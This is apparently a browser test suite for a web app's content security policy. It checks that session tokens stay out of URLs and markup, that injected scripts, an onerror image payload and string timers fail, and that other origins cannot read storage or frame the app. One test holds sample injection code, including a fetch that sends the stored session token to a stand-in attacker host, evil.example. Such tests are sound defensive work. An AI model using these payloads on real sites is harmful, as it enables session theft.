import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { noBrowser } from '../support/browser.ts';
import { openStage } from './stage.ts';
import { type Kept, moveIn } from './story.ts';

const stage = openStage();
const only = { skip: noBrowser };

async function atHome(): Promise<{ page: Page; kept: Kept; complaints: string[]; origins: Set<string> }> {
  const visit = await stage.come();
  const kept = await moveIn(visit.page, stage.server.baseUrl, 'home');
  await visit.page.locator('.badge').waitFor();
  return { ...visit, kept };
}

test('the token is in no address and no markup, and goes to nobody but the API', only, async () => {
  const { page, kept, origins } = await atHome();
  const addresses: string[] = [];
  page.on('request', (request) => addresses.push(request.url()));
  await page.reload();
  await page.locator('.badge').waitFor();
  const tail = kept.token.slice(-20);
  assert.ok(!(await page.content()).includes(tail));
  assert.ok(addresses.length > 5 && addresses.every((address) => !address.includes(tail)));
  assert.deepEqual([...origins], [stage.server.baseUrl]);
});

test('markup that found its way in could run nothing and call nobody', only, async () => {
  const { page } = await atHome();
  const outcome = (await page.evaluate(`(async () => {
    const script = document.createElement('script');
    const outcome = {};
    try { script.text = 'globalThis.ran = "script"'; document.body.append(script); } catch (error) { outcome.script = error.name; }
    try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ran = 1">'); } catch (error) { outcome.markup = error.name; }
    try { setTimeout('globalThis.ran = "timer"'); } catch (error) { outcome.timer = error.name; }
    await fetch('https://evil.example/?' + localStorage['hatchery.session']).catch((error) => { outcome.fetch = error.name; });
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    outcome.styled = getComputedStyle(document.body).display;
    outcome.ran = String(globalThis.ran);
    return outcome;
  })()`)) as Record<string, string>;
  assert.deepEqual(outcome, {
    script: 'TypeError',
    markup: 'TypeError',
    timer: 'TypeError',
    fetch: 'TypeError',
    styled: 'block',
    ran: 'undefined',
  });
});

test('another origin can neither read what is kept nor show the app in a frame', only, async () => {
  const { page, context } = await stage.come();
  await moveIn(page, stage.server.baseUrl, 'home');
  const stranger = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${stage.server.baseUrl}"></iframe>`);
  }).listen(0, 'localhost');
  await new Promise((resolve) => stranger.once('listening', resolve));
  try {
    const elsewhere = await context.newPage();
    const refused = elsewhere.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await elsewhere.goto(`http://localhost:${(stranger.address() as AddressInfo).port}`);
    await refused;
    assert.equal(await elsewhere.evaluate(() => localStorage.getItem('hatchery.session')), null);
    assert.equal(elsewhere.frames().length, 2);
    assert.ok(!(await elsewhere.frames()[1]?.content())?.includes('id="app"'));
  } finally {
    stranger.close();
  }
});
